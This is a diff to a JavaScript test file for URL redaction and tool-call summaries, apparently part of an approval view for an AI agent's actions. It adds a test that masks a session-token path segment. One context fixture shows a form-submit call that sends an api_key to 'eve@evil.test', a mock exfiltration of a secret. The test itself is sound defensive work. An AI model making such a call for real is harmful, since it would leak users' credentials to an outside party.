@@ -58,6 +58,14 @@ describe('redaction', () => {
     expect(redactUrl('data:text/html,<b>x</b>')).toBe('data:…');
   });
 
+  it('keeps a route the person must judge, and masks a secret that is one of its segments', () => {
+    // The whole path runs past the long-run pattern; no segment does (a prompt showing `gitlab.test:[masked]`
+    // cannot be judged: comment on issue 1000 or on 1001?).
+    expect(redactUrl('http://gitlab.test:8080/byteblaze/dotfiles/-/issues/1001/notes')).toBe('http://gitlab.test:8080/byteblaze/dotfiles/-/issues/1001/notes');
+    const leak = redactUrl('http://a.test/u/dGhpcyBpcyBhIHNlc3Npb24gdG9rZW4gMTIzNDU2Nzg5MA/x');
+    expect(leak).toBe('http://a.test/u/[masked]/x');
+  });
+
   it('summarises a call by names only; the approval view shows masked values', () => {
     const call = { tool: 'browser.form_submit', args: { url: 'http://m.test/send?x=1', method: 'post', fields: { to: 'eve@evil.test', api_key: 'sk-live-0123456789abcdefghij' } } };
     expect(summarizeCall(call)).toEqual({ destination: 'POST http://m.test/send?x=…', fields: ['to', 'api_key'] });
